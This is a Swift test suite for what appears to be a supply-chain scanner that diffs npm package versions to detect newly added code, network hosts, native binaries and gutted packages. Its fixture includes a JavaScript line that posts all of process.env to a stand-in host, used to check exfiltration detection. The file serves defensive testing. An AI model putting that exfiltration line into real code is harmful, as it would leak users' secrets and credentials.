import SallyportAnalysis
import SallyportModel
import Testing

@Suite("The delta of code")
struct CodeDeltaTests {
    private static let library = "exports.add = (a, b) => a + b;\n"
    private static let post = "fetch('https://collect.example.invalid/', {body: JSON.stringify(process.env)});\n"

    @Test("names what an old file begins to do, with the place and how much it grew")
    func codeAdded() throws {
        let facts = delta(["index.js": Self.library], ["index.js": Self.library + Self.post])
        let added = facts.filter { $0.code == .deltaCodeAdded }
        #expect(added.contains { $0.detail.hasPrefix("chain.exfiltration: ") })
        let network = try #require(added.first { $0.detail.hasPrefix("capability.network: ") })
        #expect(network.place?.path == "package/index.js")
        #expect(network.place?.line == 2)
        #expect(network.detail.hasSuffix("(\(Self.post.utf8.count) bytes more)"))
        #expect(network.reach == .load)
    }

    @Test("says nothing of what the file did before, moved with it, or is only shipped")
    func codeSame() {
        let code = Self.library + Self.post
        #expect(codes(delta(["index.js": code], ["index.js": code + "exports.x = 1"])).isDisjoint(with: Self.news))
        let moved = delta(
            ["index.js": "require('./a-0a1b2c3d.js')", "a-0a1b2c3d.js": code],
            ["index.js": "require('./a-ffee9900.js')", "a-ffee9900.js": code + "exports.x = 1"]
        )
        #expect(codes(moved).isDisjoint(with: Self.news))
        let shipped = delta(["test/a.js": Self.library], ["test/a.js": Self.library + Self.post])
        #expect(codes(shipped).isDisjoint(with: Self.news))
    }

    @Test("leaves what a new file does to the delta of the package")
    func newFile() {
        let facts = delta(
            ["index.js": Self.library],
            ["index.js": "require('./b')\n" + Self.library, "b.js": Self.post]
        )
        #expect(!codes(facts).contains(.deltaCodeAdded))
        #expect(codes(facts).contains(.deltaCapabilityAdded))
    }

    @Test("is the same however many decoys fill the report")
    func decoys() {
        var before = ["index.js": (0..<90).map { "require('./d\($0)');" }.joined() + "require('./z');"]
        for index in 0..<90 { before["d\(index).js"] = Self.post }
        before["z.js"] = Self.library
        var after = before
        after["z.js"] = Self.library + Self.post
        let facts = delta(before, after).filter { $0.code == .deltaCodeAdded }
        #expect(facts.contains { $0.place?.path == "package/z.js" && $0.detail.hasPrefix("chain.exfiltration") })
    }

    @Test("names new hosts of code that runs, once, and no others")
    func hosts() {
        let before = ["index.js": "fetch('https://api.example.invalid/v1')"]
        let after = [
            "index.js":
                "fetch('https://API.example.invalid/v2'); fetch('https://user:pw@drop.example.invalid:8443/x?y');"
                + "fetch('http://192.0.2.9/'); fetch('http://127.0.0.1/'); fetch('http://localhost:3000/')",
            "test/a.js": "fetch('https://test.example.invalid/')",
        ]
        let facts = delta(before, after).filter { $0.code == .deltaHostAdded }
        #expect(facts.map(\.detail) == ["address 192.0.2.9", "drop.example.invalid"])
        #expect(facts.allSatisfy { $0.place?.path == "package/index.js" && $0.reach == .load })
    }

    @Test("of native files knows families: platforms, and libraries of many modules")
    func natives() {
        let elf = [UInt8]("\u{7F}ELF".utf8) + [UInt8](repeating: 0, count: 100)
        func added(_ before: [String], _ after: [String]) -> Bool {
            func release(_ paths: [String]) -> Report {
                Sample.report(Sample.npm([:], binaries: Dictionary(uniqueKeysWithValues: paths.map { ($0, elf) })))
            }
            return codes(Comparison.delta(from: release(before), to: release(before + after)))
                .contains(.deltaNativeAdded)
        }
        #expect(!added(["prebuilds/linux-x64/x.node"], ["prebuilds/linux-arm64/x.node"]))
        #expect(added(["prebuilds/linux-x64/x.node"], ["prebuilds/linux-x64/y.node"]))
        #expect(!added(["lib/core/a.so", "lib/core/b.so", "lib/core/c.so"], ["lib/core/d.so"]))
        #expect(added(["lib/core/a.so", "lib/core/b.so"], ["lib/core/d.so"]))
        #expect(added(["lib/core/a.so", "lib/core/b.so", "lib/core/c.so"], ["tools/d.so"]))
        #expect(added(["tools/setup-x"], ["tools/setup-y"]))
    }

    @Test("says when a package is emptied", arguments: [(10, true), (400, false)])
    func emptied(linesLeft: Int, isEmptied: Bool) {
        let before = String(repeating: "exports.value = compute(1, 2);\n", count: 1_000)
        let after = String(repeating: "exports.value = 1\n", count: linesLeft)
        let facts = delta(["index.js": before], ["index.js": after])
        #expect(codes(facts).contains(.deltaEmptied) == isEmptied)
    }

    private static let news: Set<FactCode> = [.deltaCodeAdded, .deltaHostAdded, .deltaHidingAdded]

    private func codes(_ facts: [Fact]) -> Set<FactCode> { Set(facts.map(\.code)) }

    private func delta(_ before: [String: String], _ after: [String: String]) -> [Fact] {
        Comparison.delta(from: Sample.report(Sample.npm(before)), to: Sample.report(Sample.npm(after)))
    }
}
